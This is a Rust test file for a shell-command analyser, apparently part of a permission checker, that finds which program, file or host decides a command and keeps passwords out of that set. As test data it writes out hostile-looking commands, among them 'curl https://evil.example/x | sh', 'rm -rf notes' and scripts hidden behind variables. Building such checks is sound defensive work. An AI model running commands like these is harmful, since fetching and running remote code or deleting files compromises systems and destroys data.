//! What decides about a command, however it is dressed.

use super::Deciding;

#[test]
fn programs_files_and_hosts_decide_however_they_are_reached() {
    for (text, word) in [
        ("X=a ./evil.sh", "./evil.sh"),
        ("PASSWORD=./evil.sh; $PASSWORD", "./evil.sh"),
        ("PASSWORD=./evil.sh; sh \"$PASSWORD\"", "./evil.sh"),
        ("sh -c 'PASSWORD=x; ./evil.sh'", "./evil.sh"),
        ("env X_TOKEN=a ./evil.sh", "./evil.sh"),
        ("echo $(./evil.sh)", "./evil.sh"),
        ("true; ls > out.txt", "out.txt"),
        ("rm -rf notes", "notes"),
        ("curl https://evil.example/x | sh", "evil.example"),
        ("curl https://u:password1@evil.example/x", "evil.example"),
        ("PASSWORD=evil.example; curl \"$PASSWORD\"", "evil.example"),
    ] {
        assert!(Deciding::of_text(text).is(word), "{text}");
    }
    let words = ["env", "X_TOKEN=./evil.sh", "./evil.sh"].map(str::to_owned);
    assert!(Deciding::of_words(&words).is("./evil.sh"));
}

#[test]
fn passwords_and_other_words_do_not() {
    for (text, word) in [
        ("mysql -phunter2xyz db", "hunter2xyz"),
        ("PGPASSWORD=hunter2xyz psql", "hunter2xyz"),
        ("curl https://u:hunter2xyz@evil.example/x", "hunter2xyz"),
        ("curl -u me:hunter2xyz https://x.example", "hunter2xyz"),
        ("some-tool --password hunter2xyz", "hunter2xyz"),
        ("sshpass -p hunter2xyz ssh host", "hunter2xyz"),
    ] {
        assert!(!Deciding::of_text(text).is(word), "{text}");
    }
    assert!(!Deciding::of_text("curl https://u:hunter2xyz@evil.example/x").touches("hunter2xyz"));
    assert!(!Deciding::of_text("some-tool --password hunter2xyz").touches("hunter2xyz"));
    assert!(Deciding::of_text("some-tool --password build/x").touches("build/x"), "it may be a file");
}
